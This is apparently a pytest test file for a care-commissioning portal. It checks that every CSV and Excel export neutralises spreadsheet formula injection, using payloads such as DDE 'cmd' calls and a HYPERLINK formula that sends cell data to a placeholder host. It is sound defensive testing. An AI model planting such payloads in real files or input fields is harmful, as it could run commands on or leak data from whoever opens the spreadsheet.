"""Formula payloads typed into every text that reaches a spreadsheet come out of every CSV and
Excel file the portal writes as inert text: the dashboards, the outcomes view, the collaborative
view and the provider's return template."""
from __future__ import annotations

import csv
import io
import re
import tempfile
import zipfile
from urllib.parse import urlencode

import pytest
from openpyxl import load_workbook

from tests.conftest import Browserless
from tests.helpers import run_jobs
from tests.reporting.builders import commissioner_with_provider, submit, this_month

# What a spreadsheet may read as the start of a formula (OWASP, ASVS and the full-width forms),
# written out here rather than imported from the code under test.
FORMULA_STARTS = set("=+-@\t\r\n\0") | {"\uff1d", "\uff0b", "\uff0d", "\uff20"}

COMMISSIONER_NAME = '=HYPERLINK("http://example.invalid/?"&A1,"Open")'
SECOND_COMMISSIONER_NAME = "+Forth HSCP"
PROVIDER_NAME = "=CMD|' /C calc'!A0"
REFERENCE = "-2+3+cmd|' /C calc'!A0"
TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
LOCALITY = "\uff1d1+2 North"  # a full-width equals sign
FRAMEWORK_NAME = "+1+1 outcomes"
OUTCOME_TEXT = "=2+2 people feel safe"
MEASURE_LABEL = "-3+3 incidents this month"
ANSWER = '@HYPERLINK("http://example.invalid")'
COLLABORATIVE_NAME = "=1+1 partners"


def _looks_like_formula(text: str) -> bool:
    return text[:1] in FORMULA_STARTS or text.lstrip(" \u00a0\u3000")[:1] in FORMULA_STARTS


def check_csv(body: str, payloads: list[str]) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(body)))
    cells = [cell for row in rows for cell in row]
    assert cells, "the export is empty"
    live = [cell for cell in cells if _looks_like_formula(cell)]
    assert not live, f"cells a spreadsheet would run: {live}"
    for payload in payloads:  # the payload reached the file, escaped
        assert "'" + payload in cells, f"{payload!r} is not in the CSV: {cells}"
    return rows


def check_xlsx(body: bytes, payloads: list[str]) -> None:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(r"<f[ >]", archive.read(name).decode()), f"a formula in {name}"
    workbook = load_workbook(io.BytesIO(body))
    values = []
    for sheet in workbook.worksheets:
        assert not _looks_like_formula(sheet.title) and not sheet.title.startswith("'")
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    if _looks_like_formula(cell.value):
                        assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate} {cell.value!r} is not marked text"
                values.append(cell.value)
    for payload in payloads:  # kept exactly, as text
        assert payload in values, f"{payload!r} is not in the workbook"


@pytest.fixture
def poisoned(app, make_org, make_user, client, api_token):
    """Two commissioners in a collaborative, their providers and contracts, a commissioner's own
    framework and a provider's answer: every text one a formula."""
    from portal.collaboratives.services import accept, create_collaborative
    from portal.extensions import db
    from portal.returns import queries, services
    from portal.tenants.context import tenant_context
    from portal.tenants.queries import get_organisation_by_slug

    first = commissioner_with_provider(app, make_org, make_user, commissioner=("poison-hscp", COMMISSIONER_NAME),
                                       provider=("poison-care", PROVIDER_NAME), reference=REFERENCE, title=TITLE,
                                       locality=LOCALITY)
    second = commissioner_with_provider(app, make_org, make_user,
                                        commissioner=("second-hscp", SECOND_COMMISSIONER_NAME),
                                        provider=("second-care", "Second Care"), framework_id=first["framework_id"])
    submit(app, first, 40, 30)
    submit(app, second, 40, 20)

    headers = {"Authorization": f"Bearer {api_token(first['manager'].email)}"}
    created = client.post("/api/v1/frameworks", headers=headers, json={
        "name": FRAMEWORK_NAME, "code": "POISON", "outcomes": [{"code": "POISON-1", "text": OUTCOME_TEXT}],
        "measures": [{"section": "POISON-1", "code": "POISON-1.INCIDENTS", "label": MEASURE_LABEL, "type": "text"}]})
    assert created.status_code == 201, created.get_json()
    month = this_month().isoformat()
    contract = client.post("/api/v1/contracts", headers=headers, json={
        "provider": "poison-care", "reference": "POISON-2", "title": TITLE, "service_type": "other",
        "start_date": month, "end_date": month, "annual_value": "1", "funding_model": "block", "framework": "POISON"})
    assert contract.status_code == 201, contract.get_json()
    contract_id = contract.get_json()["id"]
    assert client.post(f"/api/v1/contracts/{contract_id}/schedule", headers=headers,
                       json={"frequency": "monthly"}).status_code == 201
    with app.app_context(), tenant_context(first["provider"].id):
        from portal.accounts.models import User

        ret = queries.list_returns(contract_id=contract_id)[0]
        services.save_answers(ret, {"POISON-1.INCIDENTS": ANSWER}, expected_version=ret.lock_version,
                              actor=db.session.get(User, first["submitter"].id))
        db.session.commit()
        template_return_id = ret.id

    with app.app_context():
        with tenant_context(first["commissioner"].id):
            collaborative = create_collaborative(get_organisation_by_slug("poison-hscp"), name=COLLABORATIVE_NAME,
                                                 invite=["second-hscp"], actor=None)
            db.session.commit()
            collaborative_id = collaborative.id
        with tenant_context(second["commissioner"].id):
            accept(get_organisation_by_slug("second-hscp"), collaborative_id, actor=None)
            db.session.commit()
    run_jobs(app)
    return {"first": first, "second": second, "collaborative_id": collaborative_id,
            "template_return_id": template_return_id, "custom_framework_id": created.get_json()["id"]}


def test_every_export_and_template_carries_the_payloads_as_text(app, poisoned):
    commissioner = Browserless(app.test_client())
    commissioner.sign_in(poisoned["first"]["manager"].email)
    get = commissioner.client.get
    base = "/o/poison-hscp"

    def fetch(url: str):
        response = get(url)
        assert response.status_code == 200, (url, response.status_code, response.get_data(as_text=True)[:500])
        return response

    # Dashboards: names in the rows, the locality filter on the Filters sheet.
    for name, payloads in (("compliance", [PROVIDER_NAME]),
                           ("delivery", [REFERENCE, TITLE, PROVIDER_NAME, LOCALITY])):
        query = "?" + urlencode({"locality": LOCALITY})
        check_csv(fetch(f"{base}/dashboards/{name}.csv{query}").get_data(as_text=True), payloads)
        check_xlsx(fetch(f"{base}/dashboards/{name}.xlsx{query}").data, payloads + [LOCALITY])

    # Outcomes: provider and locality rows; the framework's name on the Filters sheet.
    query = f"?framework={poisoned['first']['framework_id']}"
    rows = check_csv(fetch(f"{base}/outcomes/export.csv{query}").get_data(as_text=True), [PROVIDER_NAME, LOCALITY])
    assert ["NHWO-1", "Provider", "'" + PROVIDER_NAME, "40", "30", "75.0"] in rows  # numbers stay numbers
    check_xlsx(fetch(f"{base}/outcomes/export.xlsx{query}").data, [PROVIDER_NAME, LOCALITY])
    check_xlsx(fetch(f"{base}/outcomes/export.xlsx?framework={poisoned['custom_framework_id']}").data,
               [FRAMEWORK_NAME])

    # The collaborative view: members' names, and its own name on the Filters sheet.
    url = f"{base}/collaboratives/{poisoned['collaborative_id']}/export"
    check_csv(fetch(f"{url}.csv").get_data(as_text=True), [COMMISSIONER_NAME, SECOND_COMMISSIONER_NAME])
    check_xlsx(fetch(f"{url}.xlsx").data, [COMMISSIONER_NAME, SECOND_COMMISSIONER_NAME, COLLABORATIVE_NAME])

    # The provider's return template: the question's wording and the provider's own answer.
    provider = Browserless(app.test_client())
    provider.sign_in(poisoned["first"]["submitter"].email)
    template = f"/o/poison-care/returns/{poisoned['template_return_id']}/template"
    response = provider.client.get(f"{template}.csv")
    assert response.status_code == 200
    check_csv(response.get_data(as_text=True), [MEASURE_LABEL, ANSWER])
    response = provider.client.get(f"{template}.xlsx")
    assert response.status_code == 200
    check_xlsx(response.data, [MEASURE_LABEL, ANSWER])
    workbook = load_workbook(io.BytesIO(response.data))
    assert workbook.active.cell(row=1, column=1).font.b  # the template keeps its own styling


def test_the_filled_in_csv_template_gives_back_the_answer_exactly(app, poisoned):
    """The guard's apostrophe comes off again on import, so a provider's answer round-trips."""
    from portal.extensions import db
    from portal.returns import queries
    from portal.returns.imports import _read_rows, check_rows
    from portal.tenants.context import tenant_context

    provider = Browserless(app.test_client())
    provider.sign_in(poisoned["first"]["submitter"].email)
    body = provider.client.get(f"/o/poison-care/returns/{poisoned['template_return_id']}/template.csv").data
    assert ("'" + ANSWER).encode() in body.replace(b'""', b'"')
    with tempfile.NamedTemporaryFile(suffix=".csv") as upload:
        upload.write(body)
        upload.flush()
        rows = _read_rows(upload.name, "csv", "filled-in.csv")
    with app.app_context(), tenant_context(poisoned["first"]["provider"].id):
        ret = queries.get_return(poisoned["template_return_id"])
        values, errors = check_rows(ret, rows)
        db.session.rollback()
    assert values["POISON-1.INCIDENTS"] == ANSWER


def test_codes_that_could_start_a_formula_are_refused_on_both_surfaces(app, web, client, api_token, poisoned):
    headers = {"Authorization": f"Bearer {api_token(poisoned['first']['manager'].email)}"}
    for outcome_code in ("=CMD|' /C calc'!A0", "+1", "-1", "@A1"):
        answer = client.post("/api/v1/frameworks", headers=headers, json={
            "name": "Bad", "code": "BAD", "outcomes": [{"code": outcome_code, "text": "x"}]})
        assert answer.status_code == 422, answer.get_json()
        assert "capital letters, digits and hyphens" in answer.get_json()["message"]
    answer = client.post("/api/v1/frameworks", headers=headers, json={
        "name": "Bad", "code": "BAD", "outcomes": [{"text": "x"}],
        "measures": [{"section": "BAD-1", "code": "=BAD-1.X", "label": "x", "type": "integer"}]})
    assert answer.status_code == 422 and answer.get_json()["errors"] == {"code": [answer.get_json()["message"]]}
    listed = client.get("/api/v1/frameworks", headers=headers).get_json()
    assert "BAD" not in {f["code"] for f in listed}  # nothing half-written kept
    web.sign_in(poisoned["first"]["manager"].email)
    page = web.post("/o/poison-hscp/frameworks/new", {"name": "Bad", "code": "=BAD", "outcomes": "x"})
    assert page.status_code == 422 and "capital letters, digits and hyphens" in page.get_data(as_text=True)


def test_the_writers_guard_whatever_the_caller_does():
    from portal.reporting.exports import csv_text, guard, new_workbook, sheet_title, unguard, xlsx_bytes

    for text in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", " =1", "\u3000=1", "\uff1d1", "'=1", "''-1"):
        assert guard(text) == "'" + text and unguard(guard(text)) == text
    for text in ("plain", "'quoted", "1-2", "a=b", ""):
        assert guard(text) == text and unguard(text) == text
    from decimal import Decimal

    assert csv_text(["=h"], [[Decimal("-1.50"), -2, "=x", None]]) == "'=h\r\n-1.50,-2,'=x,\r\n"  # numbers stay numbers
    workbook = new_workbook()
    sheet = workbook.active
    sheet.title = "=Sheet"
    sheet["A1"] = "=1+1"  # openpyxl would write this as a formula
    sheet["A2"] = "#N/A"  # and this as an error
    sheet["A3"] = Decimal("-2.5")
    check_xlsx(xlsx_bytes(workbook), ["=1+1", "#N/A"])
    reread = load_workbook(io.BytesIO(xlsx_bytes(workbook))).active
    assert reread["A3"].value == -2.5 and reread["A3"].data_type == "n"
    assert sheet_title("=cmd|x") == "cmd|x" and sheet_title("'@[a]") == "a" and sheet_title("+") == "Sheet"
    with pytest.raises(TypeError):
        xlsx_bytes(__import__("openpyxl").Workbook())


def test_no_file_is_written_past_the_guard():
    """Only portal/reporting/exports.py may write CSV or make workbooks."""
    from pathlib import Path

    import portal

    root = Path(portal.__file__).parent
    writers = re.compile(r"csv\.writer|csv\.DictWriter|\bWorkbook\(|from openpyxl import .*\bWorkbook\b")
    offenders = [str(path.relative_to(root)) for path in root.rglob("*.py")
                 if path.relative_to(root).as_posix() != "reporting/exports.py" and writers.search(path.read_text())]
    assert offenders == []
